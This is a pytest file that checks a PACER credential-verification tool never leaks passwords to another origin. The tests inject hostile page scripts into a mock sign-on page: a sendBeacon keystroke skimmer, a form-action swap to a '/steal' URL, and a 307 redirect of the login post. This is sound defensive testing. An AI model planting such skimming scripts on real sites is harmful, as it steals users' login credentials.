"""Credentials go only to PACER, whatever the page does: a hostile "PACER" (the mock behind a layer
that adds scripts and answers) tries each trick seen in the probe, and a listener on another loopback
address, standing for any other origin, must receive nothing: not a connection, not a byte.

Each case runs both ways the runner meets a browser: launched by pacer-verify (Chromium's switches do
the refusing) and given to it (a per-context proxy rule and a route). Underneath: the loopback guard
refuses other hosts, and the sign-on form refuses to type into a page from, or post to, another origin."""

from __future__ import annotations

import json
import threading
from collections.abc import Awaitable, Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Browser, Route
from pydantic import SecretStr
from test_signon_paths import account_of

from flows.errors import CredentialOriginRefused
from flows.navigation import DocumentWatch
from flows.signin import SignOnPage
from verifier.browser import netguard
from verifier.browser._origin_guard import PacerOrigins
from verifier.check.site import SiteMap
from verifier.config import load_settings
from verifier.mock.scenario import court_registry
from verifier.mock.server import MockServer
from verifier.models import Status
from verifier.run.runner import Runner

# What a page does with the password typed into its form is this file's subject.
pytestmark = [pytest.mark.browser, pytest.mark.sign_in("browser")]

ASGIApp = Callable[..., Awaitable[None]]


class Listener:
    """Another origin: records every connection made to it."""

    def __init__(self, host: str = "127.0.0.2") -> None:
        seen = self.seen = []  # type: list[str]

        class Handler(BaseHTTPRequestHandler):
            def setup(self) -> None:
                seen.append("connection")
                super().setup()

            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

        self._server = ThreadingHTTPServer((host, 0), Handler)
        self.url = f"http://{host}:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    other = Listener()
    yield other
    other.close()


def _inject_script(app: ASGIApp, script: str, path: str = "/csologin/login.jsf") -> ASGIApp:
    """Add `script` to every page the mock serves at `path` (the sign-on page unless said)."""

    async def wrapped(scope: dict[str, Any], receive: Any, send: Any) -> None:
        if scope["type"] != "http" or scope["method"] != "GET" or scope["path"] != path:
            await app(scope, receive, send)
            return
        start: dict[str, Any] = {}
        body = bytearray()

        async def capture(message: dict[str, Any]) -> None:
            if message["type"] == "http.response.start":
                start.update(message)
                return
            body.extend(message.get("body", b""))
            if not message.get("more_body"):
                page = bytes(body).replace(b"</body>", f"<script>{script}</script></body>".encode())
                headers = [(k, v) for k, v in start["headers"] if k.lower() != b"content-length"]
                await send({**start, "headers": [*headers, (b"content-length", str(len(page)).encode())]})
                await send({"type": "http.response.body", "body": page})

        await app(scope, receive, capture)

    return wrapped


def _redirect_sign_in(app: ASGIApp, target: str) -> ASGIApp:
    """Answer the username/password post with a 307 to another origin (the browser would post again there)."""

    async def wrapped(scope: dict[str, Any], receive: Any, send: Any) -> None:
        if scope["type"] == "http" and scope["method"] == "POST" and scope["path"] == "/csologin/login.jsf":
            chunks = bytearray()
            while True:
                message = await receive()
                chunks.extend(message.get("body", b""))
                if not message.get("more_body"):
                    break
            if b"password" in bytes(chunks).lower():
                headers = [(b"location", target.encode()), (b"content-length", b"0")]
                await send({"type": "http.response.start", "status": 307, "headers": headers})
                await send({"type": "http.response.body", "body": b""})
                return
            replay = [{"type": "http.request", "body": bytes(chunks), "more_body": False}]

            async def again() -> dict[str, Any]:
                return replay.pop() if replay else await receive()

            await app(scope, again, send)
            return
        await app(scope, receive, send)

    return wrapped


@pytest.fixture
def hostile_mock() -> Iterator[Callable[[Callable[[ASGIApp], ASGIApp]], MockServer]]:
    servers: list[MockServer] = []

    def make(layer: Callable[[ASGIApp], ASGIApp]) -> MockServer:
        server = MockServer()
        server.app = layer(server.app)
        server._config.app = server.app  # the layer in front of the mock's own app
        servers.append(server.start())
        return server

    yield make
    for server in servers:
        server.stop()


def _check(
    server: MockServer,
    username: str,
    launched: bool,
    core_browser: Browser,
    run_core: Callable[..., Any],
    tmp_path: Path,
    **settings: Any,
) -> tuple[Any, int]:
    options = {"base_url": server.url, "rate_per_minute": 0, "timeout_s": 10, "retries": 1, "check_courts": False}
    runner = Runner(
        load_settings(None, **{**options, **settings}),
        browser=None if launched else core_browser,
        out_dir=tmp_path / "out",
    )
    summary = run_core(runner.run([account_of(server, username)]))
    return summary.results[0], summary.blocked_requests


BOTH_WAYS = pytest.mark.parametrize("launched", [True, False], ids=["launched-here", "given-browser"])


@BOTH_WAYS
def test_a_beacon_with_the_password_goes_nowhere(
    hostile_mock: Any,
    listener: Listener,
    core_browser: Browser,
    run_core: Callable[..., Any],
    tmp_path: Path,
    launched: bool,
    caplog: pytest.LogCaptureFixture,
) -> None:
    script = (
        "document.addEventListener('input', e => { if (e.target.type === 'password') "
        f"navigator.sendBeacon({json.dumps(listener.url + '/beacon')}, e.target.value); }}, true);"
    )
    server = hostile_mock(lambda app: _inject_script(app, script))
    result, blocked = _check(server, "asmith2001", launched, core_browser, run_core, tmp_path)
    assert result.status is Status.UPGRADED, result.message
    assert listener.seen == []
    assert blocked >= 1
    assert f"to origins other than PACER's: {listener.url} (" in caplog.text  # named in the run's log


@BOTH_WAYS
def test_a_form_action_swapped_after_the_password_is_typed_sends_nothing(
    hostile_mock: Any,
    listener: Listener,
    core_browser: Browser,
    run_core: Callable[..., Any],
    tmp_path: Path,
    launched: bool,
) -> None:
    script = (
        "document.addEventListener('input', e => { if (e.target.type === 'password') "
        f"e.target.form.setAttribute('action', {json.dumps(listener.url + '/steal')}); }}, true);"
    )
    server = hostile_mock(lambda app: _inject_script(app, script))
    result, _ = _check(server, "asmith2001", launched, core_browser, run_core, tmp_path)
    assert result.status is Status.SITE_ERROR and "posts to" in result.message and "nothing was sent" in result.message
    assert listener.seen == []
    assert server.stats()["login_posts"] == {}  # not even PACER got it: the form was not submitted


@BOTH_WAYS
def test_a_sign_in_answered_by_a_307_elsewhere_is_not_posted_again(
    hostile_mock: Any,
    listener: Listener,
    core_browser: Browser,
    run_core: Callable[..., Any],
    tmp_path: Path,
    launched: bool,
) -> None:
    server = hostile_mock(lambda app: _redirect_sign_in(app, listener.url + "/steal"))
    result, blocked = _check(server, "asmith2001", launched, core_browser, run_core, tmp_path)
    assert listener.seen == []
    assert blocked >= 1
    # The site answered the sign-in (with the redirect): it may have processed the password, so it is
    # not sent again in this run.
    assert result.status is Status.SITE_ERROR and result.attempts == 1, result.message
    assert f"redirect that would send it again to {listener.url}" in result.message


@BOTH_WAYS
def test_a_court_login_form_posting_elsewhere_gets_no_cmecf_login(
    hostile_mock: Any,
    listener: Listener,
    core_browser: Browser,
    run_core: Callable[..., Any],
    tmp_path: Path,
    launched: bool,
) -> None:
    script = f"document.forms.GetPass.setAttribute('action', {json.dumps(listener.url + '/cgi-bin/login.pl')});"
    server = hostile_mock(lambda app: _inject_script(app, script, "/ecf/nysd/cgi-bin/login.pl"))
    account = account_of(server, "xhall2023", courts=("nysd",)).model_copy(
        update={"cmecf_username": "xhall", "cmecf_password": SecretStr("Cmecf-Old-6")}
    )
    settings = {"base_url": server.url, "rate_per_minute": 0, "timeout_s": 10, "retries": 0}
    runner = Runner(
        load_settings(None, **settings),
        browser=None if launched else core_browser,
        courts=court_registry(server.site.scenario),
        out_dir=tmp_path / "out",
    )
    [result] = run_core(runner.run([account])).results
    [court] = result.courts
    assert court.court == "nysd" and "nothing was sent" in court.message and court.cmecf_login_ok is None
    assert listener.seen == [] and server.stats()["court_login_posts"] == {}


def test_a_page_script_cannot_reach_another_port_of_the_same_host(run_core: Callable[..., Any], tmp_path: Path) -> None:
    """Only the launched browser's switches tell ports apart (see verifier.browser._origin_guard)."""
    other = Listener("127.0.0.1")
    try:
        script = f"fetch({json.dumps(other.url + '/x')}, {{method: 'POST', body: 'x', mode: 'no-cors'}});"
        server = MockServer()
        server.app = _inject_script(server.app, script)
        server._config.app = server.app
        with server:
            result, blocked = _check(server, "asmith2001", True, None, run_core, tmp_path)  # type: ignore[arg-type]
        assert result.status is Status.UPGRADED, result.message
        assert other.seen == [] and blocked >= 1
    finally:
        other.close()


def test_the_allowed_origins() -> None:
    real = PacerOrigins()
    assert real.allows("https://pacer.login.uscourts.gov/csologin/login.jsf")
    assert real.allows("https://ecf.cod.uscourts.gov/cgi-bin/login.pl")
    assert real.allows("data:image/png;base64,AAAA") and real.allows("about:blank")
    for url in (
        "http://pacer.login.uscourts.gov/",  # not https
        "https://uscourts.gov.example.com/",
        "https://evil-uscourts.gov/",
        "https://127.0.0.1/",
        "file:///etc/passwd",
    ):
        assert not real.allows(url), url
    replica = PacerOrigins("http://127.0.0.1:8765")
    assert replica.allows("http://127.0.0.1:8765/csologin/login.jsf")
    assert not replica.allows("http://127.0.0.1:8766/") and not replica.allows("https://127.0.0.1:8765/")
    assert not replica.allows("https://pacer.login.uscourts.gov/")
    args = " ".join(real.launch_args())
    assert "EXCLUDE *.uscourts.gov" in args and "https://*.uscourts.gov" in args


def test_the_password_never_reaches_another_origin_in_a_form_post(
    pacer_mock: MockServer, listener: Listener, core_browser: Browser, run_core: Callable[..., Any]
) -> None:
    """The check right before submitting, on its own (no network guard in this context)."""
    from flows.errors import CredentialOriginRefused
    from flows.navigation import DocumentWatch
    from flows.signin import SignOnPage
    from verifier.check.site import SiteMap

    async def attempt() -> None:
        context = await core_browser.new_context()
        page = await context.new_page()
        try:
            await page.goto(pacer_mock.url + "/csologin/login.jsf")
            await page.evaluate(
                "url => document.addEventListener('input', e => { if (e.target.type === 'password') "
                "e.target.form.setAttribute('action', url); }, true)",
                listener.url + "/steal",
            )
            sign_on = SignOnPage(page, SiteMap.for_base_url(pacer_mock.url), DocumentWatch(page))
            await sign_on.sign_in("asmith2001", SecretStr("Mock-Passw0rd-1"))
        finally:
            await context.close()

    with pytest.raises(CredentialOriginRefused, match=r"posts to http://127\.0\.0\.2"):
        run_core(attempt())
    assert listener.seen == [] and pacer_mock.stats()["login_posts"] == {}


# --- the loopback guard, and the sign-on form's own origin checks ----------------------------------------


PASSWORD = SecretStr("Mock-Passw0rd-1")


#: The real sign-on page, as the site map names it: the guard must stop the browser before it is asked.
REAL_SIGN_ON = SiteMap.for_base_url(None).login_url


def test_guard_blocks_other_hosts(core_browser: Browser, run_core: Callable[..., Any]) -> None:
    blocked: list[str] = []

    async def visit() -> str:
        context = await core_browser.new_context()
        await netguard.install_loopback_guard(context, blocked.append)
        page = await context.new_page()
        try:
            await page.goto(REAL_SIGN_ON, timeout=10_000)
        except Exception as exc:
            return str(exc)
        finally:
            await context.close()
        return ""

    error = run_core(visit())
    assert "ERR_BLOCKED_BY_CLIENT" in error
    assert blocked == [REAL_SIGN_ON]


def test_sign_on_form_on_another_origin_gets_nothing(
    core_browser: Browser, run_core: Callable[..., Any], pacer_mock: MockServer, pacer_mock_factory
) -> None:
    other = pacer_mock_factory()

    async def attempt() -> None:
        context = await core_browser.new_context()
        page = await context.new_page()
        try:
            await page.goto(other.url + "/csologin/login.jsf")
            sign_on = SignOnPage(page, SiteMap.for_base_url(pacer_mock.url), DocumentWatch(page))
            await sign_on.sign_in("asmith2001", PASSWORD)
        finally:
            await context.close()

    with pytest.raises(CredentialOriginRefused, match="served from"):
        run_core(attempt())
    assert other.stats()["login_posts"] == {}


def test_form_posting_to_another_origin_gets_nothing(
    core_browser: Browser, run_core: Callable[..., Any], pacer_mock: MockServer, pacer_mock_factory
) -> None:
    other = pacer_mock_factory()
    login = pacer_mock.url + "/csologin/login.jsf"

    async def attempt() -> None:
        context = await core_browser.new_context()
        page = await context.new_page()

        async def tampered(route: Route) -> None:
            response = await route.fetch()
            body = (await response.text()).replace(
                'action="/csologin/login.jsf"', f'action="{other.url}/csologin/login.jsf"'
            )
            await route.fulfill(response=response, body=body)

        await page.route(login, tampered)
        try:
            await page.goto(login)
            sign_on = SignOnPage(page, SiteMap.for_base_url(pacer_mock.url), DocumentWatch(page))
            await sign_on.sign_in("asmith2001", PASSWORD)
        finally:
            await context.close()

    with pytest.raises(CredentialOriginRefused, match="posts to"):
        run_core(attempt())
    assert other.stats()["login_posts"] == {} and pacer_mock.stats()["login_posts"] == {}
